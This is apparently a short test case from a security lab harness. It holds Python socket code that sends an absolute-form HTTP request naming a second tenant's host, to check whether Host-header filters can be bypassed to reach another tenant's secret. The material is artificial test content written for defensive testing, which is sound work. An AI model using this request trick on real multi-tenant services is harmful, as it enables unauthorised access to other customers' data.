"""writes the other host into the request line"""

from evidence import other_tenant_asked as succeeded

SHAPE = "absolute-form requests past filters of Host"
PROMISE = "P27"
LAB = True
WALLS = "network-names"
OPTIONS = {"hosts": ["tenant-a.rwlab.net:80"]}
PYTHON = """
import socket
with socket.create_connection(("tenant-a.rwlab.net", 80), 30) as line:
    line.sendall(b"GET http://tenant-b.rwlab.net/@SECRET@ HTTP/1.1\\r\\nHost: tenant-a.rwlab.net\\r\\n\\r\\n")
    line.recv(9999)
"""
